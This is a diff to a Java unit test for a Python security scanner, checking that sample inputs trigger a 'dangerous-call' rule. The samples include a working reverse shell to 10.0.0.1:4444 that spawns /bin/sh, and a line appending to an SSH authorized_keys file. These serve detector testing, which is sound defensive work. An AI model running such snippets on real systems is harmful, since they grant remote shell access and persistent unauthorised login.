@@ -115,7 +115,7 @@ class PythonScannerTest {
                 "import os\ntry:\n    pass\nexcept Exception:\n    os.system('id')\n",
                 "import os\n[os.system(c) for c in ['id']]\n",
                 "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
-                "open('/root/.ssh/authorized_keys', 'a').write('x')\n"
+                "open('/home/ana/.ssh/authorized_keys', 'a').write('x')\n"
             })
     void what_runs_on_import_is_dangerous(String source) {
         assertThat(read(source).rules()).as(source).contains("python/dangerous-call");
